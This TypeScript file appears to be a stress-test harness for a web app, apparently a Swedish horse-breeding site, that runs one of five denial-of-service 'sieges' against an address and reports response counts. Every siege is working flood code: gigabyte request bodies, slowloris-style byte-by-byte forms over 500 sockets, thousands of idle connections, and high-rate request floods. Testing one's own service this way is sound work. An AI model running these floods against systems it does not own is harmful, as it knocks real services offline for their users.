// One kind of attack on an address, in its own process, until told to end; it reports what it did.

import { connect, type Socket } from 'node:net'

export const SIEGES = ['large bodies', 'slow bodies', 'goal boards', 'fresh pages', 'idle connections'] as const
type SiegeKind = (typeof SIEGES)[number]

const GB = 1024 ** 3
const CHUNK = Buffer.alloc(64 * 1024, 'a')
const IDLE = 10_000

type Attack = { isOver: boolean; counts: Record<string, number> }
const count = ({ counts }: Attack, what: string) => {
  counts[what] = (counts[what] ?? 0) + 1
}

function open(address: string): Socket {
  const { hostname, port } = new URL(address)
  return connect(Number(port), hostname).on('error', () => {})
}

const head = (address: string, path: string, ...more: string[]) =>
  [
    `POST ${path} HTTP/1.1`,
    `Host: ${new URL(address).host}`,
    `Origin: ${address}`,
    'Content-Type: application/x-www-form-urlencoded',
    ...more,
    '',
    '',
  ].join('\r\n')

const closed = (socket: Socket) => new Promise<void>((resolve) => socket.once('close', () => resolve()))

/** Streams a gigabyte, with or without a content length, as fast as it is accepted. */
async function sendLarge(address: string, attack: Attack, number: number): Promise<void> {
  const socket = open(address)
  const told = number % 2 === 0 ? `Content-Length: ${GB}` : 'Transfer-Encoding: chunked'
  let answer = ''
  socket.on('data', (bytes: Buffer) => {
    answer += bytes.toString('latin1')
  })
  const end = closed(socket)
  socket.write(head(address, '/login', told))
  for (let sent = 0; sent < GB && !socket.destroyed && !attack.isOver; sent += CHUNK.length) {
    if (number % 2 !== 0) socket.write(`${CHUNK.length.toString(16)}\r\n`)
    const isTaken = socket.write(CHUNK)
    if (number % 2 !== 0) socket.write('\r\n')
    if (!isTaken) await Promise.race([new Promise((wake) => socket.once('drain', wake)), end])
  }
  if (attack.isOver) socket.destroy()
  await end
  count(attack, answer.slice(9, 12) || 'cut off')
}

/** A form sent byte by byte. */
async function sendSlow(address: string, attack: Attack): Promise<void> {
  const socket = open(address)
  socket.resume()
  const end = closed(socket)
  socket.write(head(address, '/login', 'Content-Length: 10000'))
  while (!socket.destroyed && !attack.isOver) {
    socket.write('a')
    await Promise.race([new Promise((wake) => setTimeout(wake, 200)), end])
  }
  socket.destroy()
  count(attack, 'forms')
}

async function ask(address: string, attack: Attack, path: string): Promise<void> {
  try {
    const response = await fetch(address + path)
    await response.arrayBuffer()
    count(attack, `${response.status}`)
  } catch {
    count(attack, 'cut off')
  }
}

/** Idle connections, as many as one process may open. */
async function stayIdle(address: string, attack: Attack): Promise<void> {
  const sockets: Socket[] = []
  for (let i = 0; i < IDLE && !attack.isOver; i++) {
    const socket = open(address)
    sockets.push(socket)
    await new Promise<void>((resolve) => {
      socket.once('connect', () => {
        count(attack, 'opened')
        resolve()
      })
      socket.once('error', () => {
        count(attack, 'not to be had')
        resolve()
      })
    })
  }
  while (!attack.isOver) await new Promise((wake) => setTimeout(wake, 100))
}

let goal = 0
const board = () => {
  goal += 1
  return `/breeding?vy=mal&hmin=${140 + (goal % 30)}&hmax=${175 + (Math.floor(goal / 30) % 30)}&klass=dressyr%3AMedelsv%C3%A5r+A&inavel=${(goal % 17) / 2}&slag=gulanlag`
}

async function besiege(kind: SiegeKind, address: string, attack: Attack): Promise<void> {
  /** This many in parallel, each repeated when it ends. */
  const keepUp = async (workers: number, once: (number: number) => Promise<void>) => {
    const work = async (number: number) => {
      while (!attack.isOver) await once(number)
    }
    await Promise.all(Array.from({ length: workers }, (_, number) => work(number)))
  }
  /** This many per second, whether or not there are responses. */
  const pour = async (perSecond: number, most: number, path: () => string) => {
    for (let sent = 0; sent < most && !attack.isOver; sent++) {
      void ask(address, attack, path())
      await new Promise((wake) => setTimeout(wake, 1000 / perSecond))
    }
  }
  switch (kind) {
    case 'large bodies':
      return keepUp(8, (number) => sendLarge(address, attack, number))
    case 'slow bodies':
      return keepUp(500, () => sendSlow(address, attack))
    case 'goal boards':
      return pour(200, 1000, board)
    case 'fresh pages':
      return pour(100, 100_000, () => `/youngsters?generation=${goal++}`)
    case 'idle connections':
      return stayIdle(address, attack)
  }
}

if (import.meta.main) {
  const [kind = '', address = ''] = process.argv.slice(2)
  const known = SIEGES.find((one) => one === kind)
  if (!known) throw new Error(`no such siege: ${kind}`)
  const attack: Attack = { isOver: false, counts: {} }
  process.once('message', () => {
    attack.isOver = true
    process.send?.(
      Object.entries(attack.counts)
        .map(([what, times]) => `${what}: ${times}`)
        .join(', '),
    )
  })
  await besiege(known, address, attack)
}
